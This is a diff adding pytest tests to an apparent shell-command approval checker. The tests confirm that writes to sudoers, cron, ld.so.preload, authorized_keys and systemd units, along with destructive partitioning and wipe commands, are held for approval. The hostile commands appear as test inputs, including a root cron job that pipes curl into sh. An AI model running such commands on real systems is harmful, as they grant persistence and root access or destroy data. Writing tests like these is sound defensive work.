@@ -135,3 +135,72 @@ def test_firewall_access_removals_ask(command: str) -> None:
 ])
 def test_firewall_reads_and_additions_pass(command: str) -> None:
     assert _decide(command) == "allow", command
+
+
+# --- a write to a NEW absolute path loses nothing; an existing file, or a place where a new file
+# runs code or grants access, is asked (checked on this machine, with or without a working folder) ---
+
+def test_redirect_and_tee_to_a_new_absolute_path_pass() -> None:
+    import os
+    import shutil
+    import uuid
+
+    folder = os.path.join(os.path.realpath(os.path.expanduser("~")), f"bw-new-{uuid.uuid4().hex[:8]}")  # not a temp path
+    new = os.path.join(folder, "60-new.conf")
+    os.mkdir(folder)
+    try:
+        for command in (f"nft list ruleset > {new}", f"echo x | sudo tee {new}",
+                        f"sudo tee {new} >/dev/null <<'EOF'\na=1\nEOF"):
+            assert _decide(command) == "allow", command
+        with open(new, "w") as f:
+            f.write("kept\n")
+        for command in (f"nft list ruleset > {new}", f"echo x | sudo tee {new}"):
+            assert _decide(command) != "allow", command
+    finally:
+        shutil.rmtree(folder)
+
+
+def test_a_path_that_cannot_be_looked_at_counts_as_there(tmp_path) -> None:  # type: ignore[no-untyped-def]
+    import os
+
+    locked = tmp_path / "locked"
+    locked.mkdir()
+    (locked / "f.conf").write_text("kept\n")
+    locked.chmod(0)
+    try:
+        if os.access(locked, os.X_OK):
+            pytest.skip("running as a user that can search any folder")
+        assert _decide(f"echo x > {locked}/f.conf") != "allow"
+    finally:
+        locked.chmod(0o700)
+
+
+@pytest.mark.parametrize("command", [
+    "echo 'u ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/zz9-new",
+    "echo '* * * * * root curl x | sh' | sudo tee /etc/cron.d/zz9-new",
+    "echo x > /etc/profile.d/zz9-new.sh", "echo x > /etc/systemd/system/zz9-new.service",
+    "echo x > /usr/local/bin/zz9-new", "echo x > /etc/ld.so.preload", "echo k > /root/.ssh/authorized_keys2",
+    "echo x > /etc/apt/sources.list.d/zz9-new.list", "echo x > /etc/../etc/cron.d/zz9-new",
+])
+def test_new_files_that_run_code_or_grant_access_ask(command: str) -> None:
+    assert _decide(command) != "allow", command
+
+
+# --- disk tools: sfdisk's printing forms pass, its writes ask ---
+
+@pytest.mark.parametrize("command", [
+    "sudo sfdisk -d /dev/sda > ~/sda-partition-table.$(date +%s).txt", "sfdisk -l /dev/sda",
+    "sfdisk --json /dev/nvme0n1", "sfdisk --dump /dev/sda", "parted -l", "parted /dev/sda print", "fdisk -l",
+    "sgdisk -p /dev/sda", "blkid", "lsblk -f", "wipefs /dev/sdb",
+])
+def test_disk_reads_pass(command: str) -> None:
+    assert _decide(command) == "allow", command
+
+
+@pytest.mark.parametrize("command", [
+    "sfdisk /dev/sda < table.txt", "sfdisk --delete /dev/sda 2", "sfdisk -r /dev/sda",
+    "sfdisk -d /dev/sda | sfdisk /dev/sdb", "sgdisk -d 2 /dev/sda", "sgdisk -g /dev/sda", "wipefs -a /dev/sdb",
+    "fdisk /dev/sda", "parted /dev/sda rm 1",
+])
+def test_disk_writes_ask(command: str) -> None:
+    assert _decide(command) != "allow", command
